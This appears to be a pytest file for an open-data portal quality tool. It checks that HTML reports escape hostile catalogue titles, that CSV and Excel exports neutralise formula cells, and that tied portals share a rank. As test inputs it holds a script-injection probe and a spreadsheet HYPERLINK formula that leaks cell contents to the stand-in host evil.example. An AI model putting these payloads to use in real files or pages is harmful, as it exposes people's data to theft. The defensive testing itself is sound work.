"""Reports and exports treat portal content as hostile: escaped HTML, neutralised spreadsheet formulas; ties rank 并列."""

from __future__ import annotations

import copy
import csv
import json

import pytest
from openpyxl import load_workbook

from checks.assess import AssessOptions
from harvester.run import run_harvest
from odq.pipeline import assess_and_score, make_http, report
from odq.replay import ReplayServer, catalogue_from_packages
from reports.export import league_rows, neutralise, write_export
from tests.conftest import ckan_profile, real_fixture

SCRIPT = '<script>alert("pwned")</script>'
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """Two city portals with the same (real Birmingham) catalogue, one with hostile titles and publisher."""
    from harvester.store import Store

    envelope = json.loads(real_fixture("ckan_data.birmingham.gov.uk", "package_search_q_purchase_card.json")
                          .read_text(encoding="utf-8"))
    packages = envelope["result"]["results"]
    evil = copy.deepcopy(packages)
    evil[0]["title"] = SCRIPT
    evil[1]["title"] = FORMULA
    evil[0]["organization"]["title"] = f"{FORMULA}{SCRIPT}"
    directory = tmp_path_factory.mktemp("reports")
    store = Store(f"sqlite:///{directory / 'odq.sqlite'}")
    for portal_id, catalogue in (("evil-city", evil), ("twin-a", packages), ("twin-b", packages)):
        with ReplayServer(catalogue_from_packages(catalogue)) as server:
            profile = ckan_profile(server.base, portal_id)
            http = make_http(profile)
            assert run_harvest(profile, store, http).status == "complete"
            assess_and_score(store, profile, http, AssessOptions(check_links=False, validate_files=False))
    page = report(store, "evil-city", directory / "evil-city")
    return {"store": store, "dir": directory, "html": page.read_text(encoding="utf-8")}


def test_portal_text_is_escaped_in_the_html_report(hostile):
    html = hostile["html"]
    assert SCRIPT not in html
    assert "&lt;script&gt;alert(&#34;pwned&#34;)&lt;/script&gt;" in html
    assert "<script" not in html


def test_exports_neutralise_formulas_and_rank_ties_together(hostile):
    store, directory = hostile["store"], hostile["dir"]
    rows = league_rows(store, "cstc2019-website", "city")
    by_id = {row["portal_id"]: row for row in rows}
    assert by_id["twin-a"]["composite"] == by_id["twin-b"]["composite"]
    assert by_id["twin-a"]["rank"] == by_id["twin-b"]["rank"]
    assert by_id["twin-a"]["rank_label"].startswith("并列第")

    hostile_row = {"portal": FORMULA, "note": "+1-2", "ok": "plain", "number": 0.5}
    csv_path = write_export([*rows, hostile_row], directory / "scores.csv")
    with csv_path.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for line in csv.reader(handle) for cell in line]
    assert f"'{FORMULA}" in cells and FORMULA not in cells
    assert "'+1-2" in cells

    xlsx_path = write_export([*rows, hostile_row], directory / "scores.xlsx")
    sheet = load_workbook(xlsx_path).active
    values = [cell for row in sheet.iter_rows() for cell in row]
    formula_cells = [c for c in values if isinstance(c.value, str) and FORMULA in c.value]
    assert formula_cells and all(c.value.startswith("'") and c.data_type == "s" for c in formula_cells)
    assert any(c.value == 0.5 for c in values)  # numbers stay numbers


@pytest.mark.parametrize(("value", "expected"), [("=1+1", "'=1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("-3", "'-3"),
                                                 ("safe", "safe"), (3, 3), (None, None)])
def test_neutralise(value, expected):
    assert neutralise(value) == expected
